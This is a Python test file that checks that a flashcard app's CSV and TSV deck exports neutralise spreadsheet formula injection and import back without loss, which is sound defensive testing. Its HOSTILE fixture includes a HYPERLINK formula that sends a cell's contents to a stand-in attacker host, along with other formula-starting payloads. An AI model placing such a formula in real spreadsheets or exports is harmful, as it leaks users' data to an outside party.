"""CSV/TSV exports are formula-safe (OWASP "CSV Injection"), and importing them is lossless."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from recall.decks.csv_cells import FORMULA_STARTS, formula_safe, from_formula_safe
from recall.decks.exporters.csv import export_csv, export_tsv
from recall.decks.importers import delimited
from recall.decks.models import Deck, Tag
from recall.decks.services import deck_export, notes_import
from tests.factories import DeckFactory, NoteFactory, UserFactory

HOSTILE = [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "=1+2"),
    ("+SUM(1,2)", "-2+3"),
    ("@SUM(A1:A2)", "- a Markdown list\n- second item"),
    ("\tTAB first?", "\r\nCR first"),
    ("'quoted already", "'=already escaped by hand"),
    ("Plain question?", "'tis the season"),
]


def _rows(data: bytes, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""), delimiter=delimiter))


def _hostile_deck() -> Deck:
    deck = Deck.objects.get(pk=DeckFactory(title="Hostile").pk)
    for question, answer in HOSTILE:
        NoteFactory(deck=deck, question=question, answer=answer)
    card = NoteFactory(deck=deck, question="Tagged?", answer="yes")
    card.tags.add(Tag.objects.create(owner=deck.owner, name="-minus"))
    return deck


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(start):
    assert formula_safe(f"{start}cmd") == f"'{start}cmd"
    assert from_formula_safe(formula_safe(f"{start}cmd")) == f"{start}cmd"


@pytest.mark.parametrize("cell", ["", "plain", "'tis", "''", "'=x", "a=b", " =x", "x\t-"])
def test_escaping_round_trips_every_cell(cell):
    assert from_formula_safe(formula_safe(cell)) == cell
    # Only the first character decides; nothing else changes.
    assert formula_safe(cell).endswith(cell)


@pytest.mark.django_db
@pytest.mark.parametrize(("export", "delimiter"), [(export_csv, ","), (export_tsv, "\t")])
def test_exported_cells_never_start_with_a_formula_character(export, delimiter):
    rows = _rows(export(_hostile_deck()), delimiter)
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == len(HOSTILE) + 2
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert rows[1][:2] == [
        "'" + HOSTILE[0][0],
        "'=1+2",
    ]
    assert [row[2] for row in rows[1:] if row[2]] == ["'-minus"]
    # A plain cell is untouched; one starting with a quote gets a second one, so that
    # reading it back (which takes one off) keeps it.
    assert rows[6][:2] == ["Plain question?", "''tis the season"]


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_formula_safe_export_imports_back_to_the_same_cards(fmt):
    deck = _hostile_deck()
    exported = deck_export(deck=deck, fmt=fmt)
    summary = notes_import(owner=UserFactory(), filename=exported.filename, data=exported.content)
    [copy] = Deck.objects.filter(pk__in=summary.deck_ids)

    def cards(d: Deck) -> list[tuple[str, str, list[str]]]:
        found: Any = d.notes.prefetch_related("tags").order_by("position")
        return [(c.question, c.answer, sorted(t.name for t in c.tags.all())) for c in found]

    # The importer trims cells and turns \r\n into \n, as for every notes file.
    expected = [(q.strip(), a.replace("\r\n", "\n").strip(), t) for q, a, t in cards(deck)]
    assert cards(copy) == expected
    answers = [a for _, a, _ in cards(copy)]
    assert "=1+2" in answers
    assert "'tis the season" in answers


def test_a_hand_written_csv_keeps_quotes_that_are_not_the_escape():
    text = "question,answer\n'tis the question?,'Twas an answer\n'=1+1?,'-1\n"
    parsed = delimited.parse("hand.csv", text)
    assert [(c.question, c.answer) for c in parsed.cards] == [
        ("'tis the question?", "'Twas an answer"),
        ("=1+1?", "-1"),
    ]
